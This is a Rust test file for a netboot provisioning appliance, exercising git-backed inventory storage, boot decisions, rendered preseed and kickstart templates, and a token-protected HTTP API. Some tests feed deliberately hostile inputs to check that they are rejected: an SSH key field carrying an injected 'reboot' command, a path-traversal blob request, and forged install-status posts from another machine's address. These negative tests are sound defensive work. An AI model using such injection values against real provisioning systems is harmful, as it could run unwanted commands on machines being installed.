//! Inventory tests: objects and validation, storage checked with stock git,
//! blending, boot decisions, golden templates, the API through `oneshot`.

use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex, RwLock};

use axum::body::Body;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use serde_json::{json, Value};
use tower::ServiceExt;

use super::api::{router, InvState};
use super::boot::{decide, ipxe_script, BootDecision, BootPolicy};
use super::model::*;
use super::status::StatusBook;
use super::templates::{render, Document};
use super::*;
use crate::auth::TokenStore;

const K: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
const I: &str = "sha256:2222222222222222222222222222222222222222222222222222222222222222";

pub(crate) fn who() -> Author {
    Author::new("tester")
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .output()
        .expect("stock git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn distro(name: &str, breed: &str) -> Object {
    Object::Distro(Distro {
        name: name.into(),
        kernel: K.into(),
        initrd: I.into(),
        arch: "x86_64".into(),
        breed: breed.into(),
        os_version: "12".into(),
        kernel_options: "console=tty0 quiet".into(),
        variables: [
            ("tree".to_owned(), json!("http://mirror/tree")),
            ("timezone".to_owned(), json!("UTC")),
        ]
        .into(),
        ..Default::default()
    })
}

fn profile(name: &str, distro: Option<&str>, parent: Option<&str>) -> Object {
    Object::Profile(Profile {
        name: name.into(),
        distro: distro.map(Into::into),
        parent: parent.map(Into::into),
        ..Default::default()
    })
}

fn system(name: &str, profile: &str, mac: &str, ip: &str) -> Object {
    Object::System(System {
        name: name.into(),
        profile: Some(profile.into()),
        interfaces: vec![Interface {
            name: "eth0".into(),
            mac: mac.into(),
            ip: ip.into(),
            netmask: "255.255.255.0".into(),
            gateway: "10.0.0.1".into(),
            dns: vec!["10.0.0.2".into()],
            ..Default::default()
        }],
        ..Default::default()
    })
}

/// A small inventory: distro deb, profiles base → web, system web1.
pub(crate) fn sample(dir: &Path) -> Inventory {
    let mut inv = Inventory::open_volatile(dir).unwrap();
    inv.create(distro("deb", "debian"), &who()).unwrap();
    inv.create(profile("base", Some("deb"), None), &who())
        .unwrap();
    let Object::Profile(mut web) = profile("web", None, Some("base")) else {
        unreachable!()
    };
    web.kernel_options = "console=ttyS0 !quiet".into();
    web.variables.insert("role".into(), json!("web"));
    web.variables
        .insert("timezone".into(), json!("Europe/Paris"));
    inv.create(Object::Profile(web), &who()).unwrap();
    let Object::System(mut s) = system("web1", "web", "AA:BB:CC:00:00:01", "10.0.0.11") else {
        unreachable!()
    };
    s.hostname = "web1.lab".into();
    s.variables.insert("role".into(), json!("frontend"));
    inv.create(Object::System(s), &who()).unwrap();
    inv
}

#[test]
fn objects_are_files_and_commits_stock_git_accepts() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    let text = std::fs::read_to_string(dir.path().join("systems/web1.json")).unwrap();
    assert!(text.contains("\"mac\": \"aa:bb:cc:00:00:01\""), "{text}");
    inv.remove(Kind::System, "web1", false, &who()).unwrap();
    git(dir.path(), &["fsck", "--strict", "--no-dangling"]);
    assert_eq!(git(dir.path(), &["status", "--porcelain"]), "");
    let log = git(dir.path(), &["log", "--format=%an|%s"]);
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        [
            "tester|Remove system web1",
            "tester|Add system web1",
            "tester|Add profile web",
            "tester|Add profile base",
            "tester|Add distro deb",
            "appliance|Initialise the inventory"
        ]
    );
    // Stock git reverts the removal; a reload sees the system again.
    git(
        dir.path(),
        &[
            "-c",
            "user.name=op",
            "-c",
            "user.email=op@x",
            "revert",
            "--no-edit",
            "HEAD",
        ],
    );
    let inv = Inventory::open_volatile(dir.path()).unwrap();
    assert_eq!(inv.system("web1").unwrap().hostname, "web1.lab");
    assert_eq!(inv.system_by_mac("aa-bb-cc-00-00-01").unwrap().name, "web1");
}

/// A commit made with stock git while the server runs is live at the next
/// request, and the server's next commit builds on it.
#[test]
fn hand_made_commits_are_live_without_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    inv.remove(Kind::System, "web1", false, &who()).unwrap();
    let lock = std::sync::RwLock::new(inv);
    assert!(crate::inventory::fresh_read(&lock).system("web1").is_none());
    git(
        dir.path(),
        &[
            "-c",
            "user.name=op",
            "-c",
            "user.email=op@x",
            "revert",
            "--no-edit",
            "HEAD",
        ],
    );
    assert_eq!(
        crate::inventory::fresh_read(&lock)
            .system("web1")
            .unwrap()
            .hostname,
        "web1.lab"
    );
    let mut s = crate::inventory::fresh_read(&lock)
        .system("web1")
        .unwrap()
        .clone();
    s.comment = "after the revert".into();
    crate::inventory::fresh_write(&lock)
        .update(Object::System(s), &who())
        .unwrap();
    let log = git(dir.path(), &["log", "--format=%an", "-3"]);
    assert_eq!(log.lines().collect::<Vec<_>>(), ["tester", "op", "tester"]);
    git(dir.path(), &["fsck", "--strict", "--no-dangling"]);
}

/// An operator's `git gc` packs every object (with deltas); the inventory
/// keeps reading its history and committing on top of it.
#[test]
fn history_packed_by_stock_git_gc_still_reads_and_grows() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    // Many similar versions of one file, so `git gc` stores deltas.
    for i in 0..30 {
        let mut s = inv.system("web1").unwrap().clone();
        s.comment = format!("revision {i} of a long-lived machine record");
        inv.update(Object::System(s), &who()).unwrap();
    }
    let before = git(dir.path(), &["rev-parse", "HEAD"]);
    git(
        dir.path(),
        &["gc", "--aggressive", "--prune=now", "--quiet"],
    );
    let loose = git(dir.path(), &["count-objects", "-v"]);
    assert!(
        loose.contains("\ncount: 0\n") || loose.starts_with("count: 0\n"),
        "{loose}"
    );
    let verify = git(
        dir.path(),
        &[
            "verify-pack",
            "-v",
            &format!(
                "{}",
                std::fs::read_dir(dir.path().join(".git/objects/pack"))
                    .unwrap()
                    .flatten()
                    .map(|e| e.path())
                    .find(|p| p.extension().is_some_and(|x| x == "idx"))
                    .unwrap()
                    .display()
            ),
        ],
    );
    assert!(
        verify.contains("chain length"),
        "git gc made no deltas:\n{verify}"
    );
    drop(inv);
    let mut inv = Inventory::open_volatile(dir.path()).unwrap();
    assert_eq!(
        inv.system("web1").unwrap().comment,
        "revision 29 of a long-lived machine record"
    );
    // Every commit and tree is readable through the packs.
    let head = crate::inventory::git::parse_hex_oid(before.trim()).unwrap();
    let files = {
        let r = inv.repo();
        let info = r.commit_info(&head).unwrap();
        r.tree_files(&info.tree).unwrap()
    };
    assert!(files.contains_key("systems/web1.json"));
    inv.remove(Kind::System, "web1", false, &who()).unwrap();
    git(dir.path(), &["fsck", "--strict", "--no-dangling"]);
    assert_eq!(
        git(dir.path(), &["log", "-1", "--format=%s"]).trim(),
        "Remove system web1"
    );
}

#[test]
fn validation_refuses_bad_and_conflicting_objects() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    let head = inv.head();
    let err = |r: Result<(), InvError>| r.unwrap_err();
    // Duplicate MAC, IP and host name.
    assert_eq!(
        err(inv.create(
            system("web2", "web", "aa:bb:cc:00:00:01", "10.0.0.12"),
            &who()
        ))
        .code(),
        "conflict"
    );
    assert_eq!(
        err(inv.create(
            system("web2", "web", "aa:bb:cc:00:00:02", "10.0.0.11"),
            &who()
        ))
        .code(),
        "conflict"
    );
    let Object::System(mut s) = system("web2", "web", "aa:bb:cc:00:00:02", "10.0.0.12") else {
        unreachable!()
    };
    s.hostname = "WEB1.lab".into();
    assert_eq!(
        err(inv.create(Object::System(s), &who())).code(),
        "conflict"
    );
    // Bad formats and missing references.
    assert_eq!(
        err(inv.create(system("web2", "web", "aa:bb:cc:00:00", ""), &who())).code(),
        "invalid_object"
    );
    assert_eq!(
        err(inv.create(system("bad/name", "web", "aa:bb:cc:00:00:09", ""), &who())).code(),
        "invalid_object"
    );
    let e = err(inv.create(system("web2", "nope", "aa:bb:cc:00:00:02", ""), &who()));
    assert_eq!(e.to_string(), "profile \"nope\" does not exist");
    assert_eq!(
        err(inv.create(system("web1", "web", "aa:bb:cc:00:00:03", ""), &who())).code(),
        "already_exists"
    );
    // Inheritance cycle: base -> web -> base.
    let e = err(inv.update(profile("base", None, Some("web")), &who()));
    assert!(e.to_string().contains("inheritance cycle"), "{e}");
    assert_eq!(
        err(inv.update(profile("base", None, Some("base")), &who())).code(),
        "invalid_object"
    );
    // Nothing was committed.
    assert_eq!(inv.head(), head);
    // Editing a system keeps its own MAC.
    let mut s = inv.system("web1").unwrap().clone();
    s.kernel_options = "a=1".into();
    inv.update(Object::System(s), &who()).unwrap();
}

#[test]
fn removal_is_refused_while_used_unless_recursive() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    let e = inv.remove(Kind::Distro, "deb", false, &who()).unwrap_err();
    assert_eq!(e.code(), "in_use");
    assert!(e.to_string().contains("profile base"), "{e}");
    let mut removed = inv.remove(Kind::Distro, "deb", true, &who()).unwrap();
    removed.sort();
    assert_eq!(
        removed,
        ["distro deb", "profile base", "profile web", "system web1"]
    );
    assert_eq!(inv.count(Kind::System), 0);
    assert!(inv.system_by_mac("aa:bb:cc:00:00:01").is_none());
    let inv = Inventory::open_volatile(dir.path()).unwrap();
    assert_eq!(inv.count(Kind::Profile), 0);
}

#[test]
fn rename_updates_references_and_copy_clears_addresses() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    inv.rename(Kind::Profile, "base", "linux", &who()).unwrap();
    assert_eq!(inv.profile("web").unwrap().parent.as_deref(), Some("linux"));
    inv.rename(Kind::Profile, "web", "www", &who()).unwrap();
    assert_eq!(inv.system("web1").unwrap().profile.as_deref(), Some("www"));
    inv.copy(Kind::System, "web1", "web2", &who()).unwrap();
    assert!(inv.system("web2").unwrap().interfaces.is_empty());
    assert_eq!(
        inv.copy(Kind::System, "web1", "web2", &who())
            .unwrap_err()
            .code(),
        "already_exists"
    );
    let inv = Inventory::open_volatile(dir.path()).unwrap();
    assert_eq!(inv.system("web1").unwrap().profile.as_deref(), Some("www"));
    assert!(!dir.path().join("profiles/web.json").exists());
}

#[test]
fn variables_blend_with_provenance() {
    let dir = tempfile::tempdir().unwrap();
    let inv = sample(dir.path());
    let b = super::blend::blend(&inv, Kind::System, "web1").unwrap();
    assert_eq!(
        b.layers,
        [
            "settings",
            "distro:deb",
            "profile:base",
            "profile:web",
            "system:web1"
        ]
    );
    let v = |k: &str| (b.variables[k].value.clone(), b.variables[k].from.clone());
    assert_eq!(v("role"), (json!("frontend"), "system:web1".into()));
    assert_eq!(v("timezone"), (json!("Europe/Paris"), "profile:web".into()));
    assert_eq!(
        v("tree"),
        (json!("http://mirror/tree"), "distro:deb".into())
    );
    assert_eq!(v("kernel_options").0, json!("console=ttyS0"));
    assert_eq!(v("hostname").0, json!("web1.lab"));
}

#[test]
fn boot_decisions_follow_the_inventory() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    let d = decide(&inv, "AA:BB:CC:00:00:01", "10.0.0.1:8080");
    let BootDecision::Boot { entry, .. } = &d else {
        panic!("{d:?}")
    };
    assert_eq!(
        entry.kernel,
        format!("http://10.0.0.1:8080/blobs/sha256/{}", &K[7..])
    );
    assert_eq!(entry.cmdline, "console=ttyS0 auto=true priority=critical url=http://10.0.0.1:8080/api/v1/systems/web1/autoinstall");
    let script = ipxe_script(&d);
    assert!(script.starts_with("#!ipxe\n"));
    assert!(
        script.contains("initrd --name initrd.img http://10.0.0.1:8080/blobs/sha256/2222"),
        "{script}"
    );
    assert!(script.ends_with("boot\n"));
    // Unknown MAC: the agent by default (enlistment), then local, a menu,
    // and the agent again.
    let agent = ipxe_script(&decide(&inv, "aa:bb:cc:00:00:99", "s"));
    assert!(
        agent.contains("appliance.mode=agent appliance.server=http://s"),
        "{agent}"
    );
    let mut s = inv.settings().clone();
    s.default_boot = DefaultBoot::Local;
    inv.set_settings(s.clone(), &who()).unwrap();
    assert!(matches!(
        decide(&inv, "aa:bb:cc:00:00:99", "s"),
        BootDecision::Local { .. }
    ));
    s.default_boot = DefaultBoot::Menu;
    s.default_profile = "web".into();
    inv.set_settings(s.clone(), &who()).unwrap();
    let menu = ipxe_script(&decide(&inv, "aa:bb:cc:00:00:99", "s"));
    assert!(
        menu.contains("item e1 profile web") && menu.contains("choose --default e1"),
        "{menu}"
    );
    s.default_boot = DefaultBoot::Agent;
    inv.set_settings(s, &who()).unwrap();
    let agent = ipxe_script(&decide(&inv, "aa:bb:cc:00:00:99", "s"));
    assert!(
        agent.contains("kernel http://s/boot/vmlinuz initrd=initrd.img console=tty0")
            && agent.contains("appliance.mode=agent"),
        "{agent}"
    );
    // Netboot off: local.
    let mut sys = inv.system("web1").unwrap().clone();
    sys.netboot = false;
    inv.update(Object::System(sys), &who()).unwrap();
    assert!(matches!(
        decide(&inv, "aa:bb:cc:00:00:01", "s"),
        BootDecision::Local { .. }
    ));
    // The trait: None only for non-MACs.
    let shared = RwLock::new(inv);
    assert!(shared.ipxe_for_mac("nope", "s").is_none());
    assert!(shared
        .ipxe_for_mac("aa:bb:cc:00:00:01", "s")
        .unwrap()
        .contains("exit"));
}

fn golden(name: &str, text: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("src/inventory/templates/golden")
        .join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path)
        .unwrap_or_else(|_| panic!("{} missing; run with UPDATE_GOLDEN=1", path.display()));
    assert_eq!(
        text, want,
        "golden {name} differs; run with UPDATE_GOLDEN=1 and review the diff"
    );
}

#[test]
fn shipped_templates_render_golden() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    let server = "http://10.0.0.1:8080";
    inv.create(
        Object::Repo(model::Repo {
            name: "extras".into(),
            mirror: "http://mirror/extras".into(),
            ..Default::default()
        }),
        &who(),
    )
    .unwrap();
    inv.create(
        Object::Repo(model::Repo {
            name: "bookworm".into(),
            breed: "apt".into(),
            mirror: "http://upstream.invalid/debian".into(),
            suites: vec!["bookworm".into()],
            installer: true,
            ..Default::default()
        }),
        &who(),
    )
    .unwrap();
    let mut web = inv.system("web1").unwrap().clone();
    web.variables
        .insert("root_password_hash".into(), json!("$6$salt$hash"));
    inv.update(Object::System(web), &who()).unwrap();
    for (breed, template, file) in [
        ("redhat", "kickstart.ks", "kickstart.ks"),
        ("debian", "preseed.cfg", "preseed.cfg"),
        ("ubuntu", "autoinstall.yaml", "ubuntu-autoinstall.yaml"),
        ("generic", "cloud-init-user-data", "user-data"),
        ("coreos", "ignition.json", "ignition.json"),
    ] {
        let mut d = inv.distro("deb").unwrap().clone();
        d.breed = breed.into();
        inv.update(Object::Distro(d), &who()).unwrap();
        let mut p = inv.profile("base").unwrap().clone();
        p.repos = if breed == "redhat" {
            vec!["extras".into()]
        } else if breed == "debian" {
            vec!["bookworm".into()]
        } else {
            vec![]
        };
        inv.update(Object::Profile(p), &who()).unwrap();
        assert_eq!(super::templates::template_name(&inv, "web"), template);
        let text = render(&inv, Kind::System, "web1", Document::Autoinstall, server).unwrap();
        golden(file, &text);
        if file == "ignition.json" {
            let v: Value = serde_json::from_str(&text).expect("ignition is JSON");
            assert_eq!(v["ignition"]["version"], "3.4.0");
        }
    }
    golden(
        "meta-data",
        &render(&inv, Kind::System, "web1", Document::MetaData, server).unwrap(),
    );
}

/// The rendered preseed is checked by debconf's own parser
/// (`debconf-set-selections --checkonly`): every line `owner question type
/// value`, and the values the installer needs to run unattended against
/// the appliance's mirror, with a user, keys and the status reports.
#[test]
fn the_rendered_preseed_passes_debconf_checkonly_and_uses_the_appliance_mirror() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    inv.create(
        Object::Repo(model::Repo {
            name: "deb12".into(),
            breed: "apt".into(),
            mirror: "http://upstream.invalid/debian".into(),
            suites: vec!["bookworm".into()],
            installer: true,
            ..Default::default()
        }),
        &who(),
    )
    .unwrap();
    let mut d = inv.distro("deb").unwrap().clone();
    d.breed = "debian".into();
    inv.update(Object::Distro(d), &who()).unwrap();
    let mut p = inv.profile("base").unwrap().clone();
    p.repos = vec!["deb12".into()];
    p.variables.insert("partition_method".into(), json!("lvm"));
    p.variables.insert("install_disk".into(), json!("/dev/vda"));
    inv.update(Object::Profile(p), &who()).unwrap();
    let mut web = inv.system("web1").unwrap().clone();
    for (k, v) in [
        ("user_name", json!("ops")),
        ("user_password_hash", json!("$6$rounds=5000$salt$abc/def.")),
        (
            "ssh_authorized_keys",
            json!([
                "ssh-ed25519 AAAAC3Nza ops@lab",
                "ssh-rsa AAAAB3 it's-quoted"
            ]),
        ),
        ("packages", json!(["curl"])),
    ] {
        web.variables.insert(k.into(), v);
    }
    inv.update(Object::System(web.clone()), &who()).unwrap();
    let server = "http://10.77.0.1:80";
    let text = render(&inv, Kind::System, "web1", Document::Autoinstall, server).unwrap();
    let check = |text: &str| {
        let f = dir.path().join("preseed.cfg");
        std::fs::write(&f, text).unwrap();
        std::process::Command::new("debconf-set-selections")
            .arg("--checkonly")
            .arg(&f)
            .output()
            .expect("debconf-set-selections (Debian package debconf, in xtask/debian-packages.txt)")
    };
    let o = check(&text);
    assert!(
        o.status.success() && o.stderr.is_empty(),
        "debconf-set-selections --checkonly refused the preseed: {}\n{text}",
        String::from_utf8_lossy(&o.stderr)
    );
    // The checker is real: a malformed line fails it.
    let o = check(&format!("{text}d-i broken-line-without-type\n"));
    assert!(
        !o.status.success() || !o.stderr.is_empty(),
        "checkonly accepted a broken line"
    );
    for want in [
        "d-i mirror/http/hostname string 10.77.0.1:80\n",
        "d-i mirror/http/directory string /repos/deb12\n",
        "d-i mirror/suite string bookworm\n",
        "d-i passwd/root-login boolean false\n",
        "d-i passwd/make-user boolean true\n",
        "d-i passwd/username string ops\n",
        "d-i passwd/user-password-crypted password $6$rounds=5000$salt$abc/def.\n",
        "d-i partman-auto/method string lvm\n",
        "d-i partman-auto/disk string /dev/vda\n",
        "d-i pkgsel/include string curl openssh-server\n",
        "d-i preseed/early_command string wget -q -O /dev/null --post-data= http://10.77.0.1:80/api/v1/systems/web1/status/start || true\n",
        "echo 'ssh-rsa AAAAB3 it'\\''s-quoted' >> /target/root/.ssh/authorized_keys",
        "in-target chown -R ops: /home/ops/.ssh; wget -q -O /dev/null --post-data= http://10.77.0.1:80/api/v1/systems/web1/status/finish || true\n",
    ] {
        assert!(text.contains(want), "no {want:?} in\n{text}");
    }
    assert!(!text.contains("upstream.invalid"), "{text}");
    // The late_command is one shell line that sh parses.
    let late = text
        .lines()
        .find_map(|l| l.strip_prefix("d-i preseed/late_command string "))
        .unwrap();
    let o = std::process::Command::new("sh")
        .args(["-n", "-c", late])
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "sh -n: {}",
        String::from_utf8_lossy(&o.stderr)
    );

    // No login at all, no mirror, a key with a line break: clear errors.
    let mut bare = web.clone();
    bare.variables.remove("user_name");
    inv.update(Object::System(bare), &who()).unwrap();
    let e = render(&inv, Kind::System, "web1", Document::Autoinstall, server)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("no login") && e.contains("root_password_hash"),
        "{e}"
    );
    let mut bad = web.clone();
    bad.variables
        .insert("ssh_authorized_keys".into(), json!("ssh-ed25519 A\nreboot"));
    inv.update(Object::System(bad), &who()).unwrap();
    let e = render(&inv, Kind::System, "web1", Document::Autoinstall, server)
        .unwrap_err()
        .to_string();
    assert!(e.contains("line break"), "{e}");
    inv.update(Object::System(web), &who()).unwrap();
    let mut p = inv.profile("base").unwrap().clone();
    p.repos.clear();
    inv.update(Object::Profile(p), &who()).unwrap();
    let e = render(&inv, Kind::System, "web1", Document::Autoinstall, server)
        .unwrap_err()
        .to_string();
    assert!(e.contains("no mirror"), "{e}");
}

#[test]
fn template_errors_name_file_line_and_variable() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    inv.create(
        Object::Snippet(Text {
            name: "disk".into(),
            body: "part {{ disk_layout }}\n".into(),
        }),
        &who(),
    )
    .unwrap();
    inv.create(
        Object::Template(Text {
            name: "mine.ks".into(),
            body: "# {{ hostname }}\n{% include \"snippets/disk\" %}\n".into(),
        }),
        &who(),
    )
    .unwrap();
    let mut p = inv.profile("web").unwrap().clone();
    p.autoinstall = "mine.ks".into();
    inv.update(Object::Profile(p), &who()).unwrap();
    let e = render(
        &inv,
        Kind::System,
        "web1",
        Document::Autoinstall,
        "http://s",
    )
    .unwrap_err()
    .to_string();
    assert!(
        e.starts_with("snippets/disk line 1: undefined variable `disk_layout`"),
        "{e}"
    );
    // Set it on the system: renders.
    let mut s = inv.system("web1").unwrap().clone();
    s.variables.insert("disk_layout".into(), json!("auto"));
    inv.update(Object::System(s), &who()).unwrap();
    assert_eq!(
        render(
            &inv,
            Kind::System,
            "web1",
            Document::Autoinstall,
            "http://s"
        )
        .unwrap(),
        "# web1.lab\npart auto\n\n"
    );
    // Kickstart needs `tree`: the error says so.
    let mut d = inv.distro("deb").unwrap().clone();
    d.breed = "redhat".into();
    d.variables.remove("tree");
    inv.update(Object::Distro(d), &who()).unwrap();
    let mut p = inv.profile("web").unwrap().clone();
    p.autoinstall.clear();
    inv.update(Object::Profile(p), &who()).unwrap();
    let e = render(
        &inv,
        Kind::System,
        "web1",
        Document::Autoinstall,
        "http://s",
    )
    .unwrap_err()
    .to_string();
    assert!(
        e.starts_with("templates/kickstart.ks line 4: undefined variable `tree`"),
        "{e}"
    );
}

#[test]
fn ten_thousand_systems_load_fast() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    let objs: Vec<Object> = (0..10_000u32)
        .map(|i| {
            system(
                &format!("n{i:05}"),
                "web",
                &format!(
                    "02:00:00:{:02x}:{:02x}:{:02x}",
                    i >> 16,
                    (i >> 8) & 0xff,
                    i & 0xff
                ),
                &format!("10.{}.{}.{}", 1 + (i >> 16), (i >> 8) & 0xff, i & 0xff),
            )
        })
        .collect();
    inv.put_many(objs, &who(), "Add 10,000 systems").unwrap();
    drop(inv);
    let t = std::time::Instant::now();
    let inv = Inventory::open_volatile(dir.path()).unwrap();
    let took = t.elapsed();
    eprintln!("loaded {} systems in {took:?}", inv.count(Kind::System));
    assert_eq!(inv.count(Kind::System), 10_001);
    assert!(inv.system_by_mac("02:00:00:00:27:0f").is_some());
    git(dir.path(), &["fsck", "--no-dangling"]);
}

// ---- API through oneshot ----

struct Api {
    _dir: tempfile::TempDir,
    app: axum::Router,
    token: String,
    state: Arc<InvState>,
}

fn api() -> Api {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(&dir.path().join("inventory"));
    // web1 installs Debian with the preseed: it needs a mirror and a login.
    let mut web1 = inv.system("web1").unwrap().clone();
    web1.variables
        .insert("root_password_hash".into(), json!("$6$salt$hash"));
    web1.variables
        .insert("mirror_host".into(), json!("10.0.0.1:8080"));
    web1.variables
        .insert("mirror_dir".into(), json!("/repos/deb12"));
    inv.update(Object::System(web1), &who()).unwrap();
    let tokens = TokenStore::memory();
    // Admin: settings are an admin route.
    let token = tokens
        .create_scoped("ops", crate::auth::Scope::Admin)
        .unwrap()
        .1;
    let state = Arc::new(InvState {
        inventory: Arc::new(RwLock::new(inv)),
        status: Mutex::new(StatusBook::open(None).unwrap()),
        tokens: Arc::new(tokens),
        public_reads: true,
        blobs: dir.path().join("blobs/sha256"),
        events: crate::events::Events::new(),
        committer: Default::default(),
    });
    Api {
        app: router(state.clone()),
        _dir: dir,
        token,
        state,
    }
}

impl Api {
    async fn call(
        &self,
        method: &str,
        uri: &str,
        body: Option<Value>,
        auth: bool,
    ) -> (StatusCode, String) {
        let mut req = Request::builder()
            .method(method)
            .uri(uri)
            .header("host", "10.0.0.1:8080");
        if auth {
            req = req.header("authorization", format!("Bearer {}", self.token));
        }
        let req = req
            .header("content-type", "application/json")
            .body(match body {
                Some(b) => Body::from(b.to_string()),
                None => Body::empty(),
            });
        let resp = self.app.clone().oneshot(req.unwrap()).await.unwrap();
        let status = resp.status();
        let bytes = resp.into_body().collect().await.unwrap().to_bytes();
        (status, String::from_utf8_lossy(&bytes).into_owned())
    }
}

impl Api {
    /// A tokenless POST from the TCP peer `peer`.
    async fn post_from(&self, uri: &str, peer: &str) -> (StatusCode, String) {
        let peer: std::net::SocketAddr = peer.parse().unwrap();
        let mut req = Request::post(uri)
            .header("host", "10.0.0.1:8080")
            .body(Body::empty())
            .unwrap();
        req.extensions_mut()
            .insert(axum::extract::ConnectInfo(peer));
        let resp = self.app.clone().oneshot(req).await.unwrap();
        let status = resp.status();
        let bytes = resp.into_body().collect().await.unwrap().to_bytes();
        (status, String::from_utf8_lossy(&bytes).into_owned())
    }

    fn netboot(&self, system: &str) -> bool {
        self.state
            .inventory
            .read()
            .unwrap()
            .system(system)
            .unwrap()
            .netboot
    }
}

#[tokio::test]
async fn a_leased_address_reports_install_status_only_for_its_own_system() {
    let a = api();
    // Our DHCP leased .50 to web1's MAC and .51 to another machine.
    a.state
        .events
        .learn("10.0.0.50".parse().unwrap(), "aa:bb:cc:00:00:01");
    a.state
        .events
        .learn("10.0.0.51".parse().unwrap(), "52:54:00:99:99:99");
    for uri in [
        "/api/v1/systems/web1/status/finish",
        "/cblr/svc/op/nopxe/system/web1",
        "/cblr/svc/op/trig/mode/post/system/web1",
    ] {
        let (s, body) = a.post_from(uri, "10.0.0.51:40000").await;
        assert_eq!(
            (s, code(&body).as_str()),
            (StatusCode::FORBIDDEN, "lease_mismatch"),
            "{uri}: {body}"
        );
        assert!(
            a.netboot("web1"),
            "{uri} from another machine turned netboot off"
        );
    }
    let (s, body) = a
        .post_from("/api/v1/systems/web1/status/start", "10.0.0.51:1")
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{body}");
    assert!(a.state.status.lock().unwrap().get("web1").is_none());
    // The machine itself may.
    let (s, body) = a
        .post_from("/api/v1/systems/web1/status/finish", "10.0.0.50:40000")
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    assert!(!a.netboot("web1"));
}

#[tokio::test]
async fn an_address_this_appliance_never_leased_reports_as_before() {
    // Another DHCP server's network: there is nothing to check against.
    let a = api();
    let (s, body) = a
        .post_from("/api/v1/systems/web1/status/finish", "192.0.2.7:40000")
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    assert!(!a.netboot("web1"));
}

fn code(body: &str) -> String {
    serde_json::from_str::<Value>(body).unwrap()["code"]
        .as_str()
        .unwrap_or("")
        .to_owned()
}

#[tokio::test]
async fn blobs_stream_with_ranges() {
    let a = api();
    let data: Vec<u8> = (0..300_000u32).map(|i| (i % 251) as u8).collect();
    let hex = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&data));
    std::fs::create_dir_all(&a.state.blobs).unwrap();
    std::fs::write(a.state.blobs.join(&hex), &data).unwrap();
    // Not a distro's kernel or initrd: never served without a token.
    let (s, _) = a
        .call("GET", &format!("/blobs/sha256/{hex}"), None, false)
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let get = |range: Option<&'static str>| {
        let mut r = Request::builder().uri(format!("/api/v1/blobs/sha256/{hex}"));
        if let Some(v) = range {
            r = r.header("range", v);
        }
        a.app.clone().oneshot(r.body(Body::empty()).unwrap())
    };
    let resp = get(None).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(resp.headers()["cache-control"]
        .to_str()
        .unwrap()
        .contains("immutable"));
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(&body[..], &data[..]);
    let resp = get(Some("bytes=100000-100009")).await.unwrap();
    assert_eq!(resp.status(), StatusCode::PARTIAL_CONTENT);
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(&body[..], &data[100_000..100_010]);
    let (s, body) = a
        .call(
            "GET",
            &format!("/api/v1/blobs/sha256/{}", "0".repeat(64)),
            None,
            false,
        )
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::NOT_FOUND, "not_found")
    );
    let (s, _) = a
        .call("GET", "/api/v1/blobs/sha256/..%2Fx", None, false)
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn api_crud_with_tokens_and_stable_errors() {
    let a = api();
    let (s, body) = a.call("GET", "/api/v1/systems", None, false).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(
        serde_json::from_str::<Value>(&body).unwrap()["items"][0]["name"],
        "web1"
    );
    // Writes need a token.
    let new =
        json!({"name": "db1", "profile": "base", "interfaces": [{"mac": "aa:bb:cc:00:00:02"}]});
    let (s, body) = a
        .call("POST", "/api/v1/systems", Some(new.clone()), false)
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::UNAUTHORIZED, "unauthorized")
    );
    let (s, body) = a
        .call("POST", "/api/v1/systems", Some(new.clone()), true)
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let (s, body) = a.call("POST", "/api/v1/systems", Some(new), true).await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::CONFLICT, "already_exists")
    );
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems",
            Some(json!({"name": "x", "profile": "base", "bogus": 1})),
            true,
        )
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, "invalid_object"),
        "{body}"
    );
    let (s, body) = a.call("POST", "/api/v1/systems", None, true).await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::BAD_REQUEST, "invalid_request")
    );
